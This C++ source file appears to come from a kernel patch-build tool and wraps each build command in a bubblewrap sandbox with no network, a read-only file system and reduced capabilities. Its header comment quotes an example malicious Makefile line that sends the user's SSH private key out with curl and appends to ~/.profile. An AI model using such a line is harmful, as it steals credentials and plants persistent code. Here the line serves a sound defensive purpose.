// Patches and sources run as whoever builds them
//
// A kernel's Makefiles are programs: `$(shell …)` runs when they are read, before anything is compiled, and host
// programs are compiled and run. A patch from a mailing list may hold either:
//
//     +X := $(shell curl -d @$(HOME)/.ssh/id_ed25519 …; echo … >>$(HOME)/.profile)
//
// So each command of a build runs in namespaces of its own, made by bubblewrap: the file system is there as it is, but
// read-only, except for the cache (in which the scratch folder lies); there is no network; other processes aren't to be
// seen. TMPDIR is in the scratch folder, since /tmp is read-only too. Root loses what it could undo that with: all
// capabilities but those over files' owners, and /proc/sys, which asks for no capability.
//
// The namespace of processes has another use: all of a command is gone when its bwrap is, and bwrap goes with us.
// Thus a session of its own (against input faked into the caller's terminal) costs nothing: the group that Executor
// signals is bwrap's.
//
// A toolchain root (kernel/toolchain.cc) is entered in the same way, its own folders in place of this machine's.
//
// Outside are those that need a network: apt, and compiles by --launcher. What isn't kept in: what a command reads, and
// sockets in the file system that it may connect to. Measured: 4 ms of processor time a
// command, 8 ms until it runs where all processors are busy.
#include "kpatch-build/sandbox.h"

#include <fmt/format.h>
#include <unistd.h>

#include <algorithm>
#include <initializer_list>
#include <string_view>
#include <utility>

#include "kernel/kernel.h"
#include "support/error.h"
#include "support/files.h"
#include "support/text.h"

namespace kpatch {

namespace fs = std::filesystem;

namespace {

void add(std::vector<std::string>& words, std::initializer_list<std::string> more) { words.insert(words.end(), more); }

// What is the same in each.
void add_confinement(std::vector<std::string>& words, const std::vector<fs::path>& writable) {
  add(words, {"--proc", "/proc", "--ro-bind-try", "/proc/sys", "/proc/sys"});
  add(words, {"--unshare-net", "--unshare-pid", "--unshare-ipc", "--new-session", "--die-with-parent"});
  if (geteuid() == 0) {
    add(words, {"--cap-drop", "ALL"});
    for (const char* kept : {"CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_FSETID"})
      add(words, {"--cap-add", kept});
  }
  for (const fs::path& folder : writable) add(words, {"--bind", folder.string(), folder.string()});
}

bool lies_in(const fs::path& path, const fs::path& folder) {
  return std::mismatch(folder.begin(), folder.end(), path.begin(), path.end()).first == folder.end();
}

// Binds ROOT/PATH to /PATH. What is bound can't be added to, so that a folder below which others are mounted (a cache in
// /opt, our own files in /usr/share) is made anew, and what it holds bound one by one.
void bind_of_root(std::vector<std::string>& words, const fs::path& root, const fs::path& path,
                  const std::vector<fs::path>& mounted) {
  const fs::path here = root / path, there = "/" / path;
  std::error_code absent;
  const fs::file_status status = fs::symlink_status(here, absent);
  if (!fs::exists(status) || std::ranges::find(mounted, there) != mounted.end()) return;
  if (fs::is_symlink(status)) {
    add(words, {"--symlink", fs::read_symlink(here).string(), there.string()});
  } else if (fs::is_directory(status) &&
             std::ranges::any_of(mounted, [&](const fs::path& other) { return lies_in(other, there); })) {
    add(words, {"--dir", there.string()});
    for (const auto& entry : entries_of(here)) bind_of_root(words, root, path / entry.path().filename(), mounted);
  } else {
    add(words, {"--ro-bind", here.string(), there.string()});
  }
}

// What bwrap says of a first command; empty: it runs.
std::optional<std::string> refusal(Executor& executor, std::vector<std::string> words) {
  words.emplace_back("true");
  const CommandResult result =
      executor.run({.argv = std::move(words), .directory = {}, .environment = {}, .outside = true});
  if (result.ok()) return std::nullopt;
  const std::vector<std::string_view> lines = lines_of(result.output);
  return lines.empty() ? std::string() : std::string(lines.front());
}

fs::path temporary_folder(const fs::path& scratch) {
  fs::path temporary = scratch / "tmp";
  fs::create_directories(temporary);
  return temporary;
}

}  // namespace

std::vector<std::string> sandbox_words(const std::vector<fs::path>& writable) {
  std::vector<std::string> words = {"bwrap", "--ro-bind", "/", "/", "--dev", "/dev"};
  add(words, {"--ro-bind-try", "/dev/shm", "/dev/shm"});
  add_confinement(words, writable);
  words.emplace_back("--");
  return words;
}

std::vector<std::string> root_words(const fs::path& root, const std::vector<fs::path>& writable,
                                    const std::vector<fs::path>& readable) {
  std::vector<std::string> words = {"bwrap"};
  std::vector<fs::path> extra = writable;
  extra.insert(extra.end(), readable.begin(), readable.end());
  for (const char* name : {"bin", "sbin", "lib", "lib32", "lib64", "libx32", "usr", "etc", "opt"})
    bind_of_root(words, root, name, extra);
  add(words, {"--dev", "/dev", "--tmpfs", "/tmp"});
  add_confinement(words, writable);
  for (const fs::path& folder : readable) add(words, {"--ro-bind", folder.string(), folder.string()});
  add(words, {"--setenv", "PATH", "/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"});
  for (const char* name : {"LD_LIBRARY_PATH", "LD_PRELOAD", "PERL5LIB", "PYTHONHOME", "PYTHONPATH"})
    add(words, {"--unsetenv", name});
  words.emplace_back("--");
  return words;
}

std::vector<fs::path> writable_folders(const fs::path& cache_root) {
  std::vector<fs::path> folders = {cache_root};
  for (const auto& entry : entries_of(cache_root)) {
    std::error_code gone;
    if (!entry.is_symlink() || !fs::is_directory(entry.path(), gone)) continue;
    if (fs::path target = fs::canonical(entry.path(), gone); !gone) folders.push_back(std::move(target));
  }
  return folders;
}

std::optional<NoSandbox> enter_sandbox(Executor& executor, const std::vector<fs::path>& writable,
                                       const fs::path& scratch) {
  if (!find_program("bwrap")) return NoSandbox{"bwrap isn't installed", "install it" + package_hint({"bwrap"})};
  const std::vector<std::string> words = sandbox_words(writable);
  if (auto why = refusal(executor, words)) return NoSandbox{"bwrap can't make namespaces here", std::move(*why)};
  executor.confine(words, {{"TMPDIR", temporary_folder(scratch).string()}});
  return std::nullopt;
}

void enter_root(Executor& executor, const fs::path& root, const std::vector<fs::path>& writable,
                const std::vector<fs::path>& readable, const fs::path& scratch) {
  if (!find_program("bwrap"))
    throw Error("bwrap isn't installed, with which it would be entered" + package_hint({"bwrap"}));
  const std::vector<std::string> words = root_words(root, writable, readable);
  executor.enter_root({}, {});
  if (const auto why = refusal(executor, words))
    throw Error(fmt::format("{} can't be entered with bwrap: {}", root.string(), *why));
  executor.enter_root(words, {{"TMPDIR", temporary_folder(scratch).string()}});
}

}  // namespace kpatch
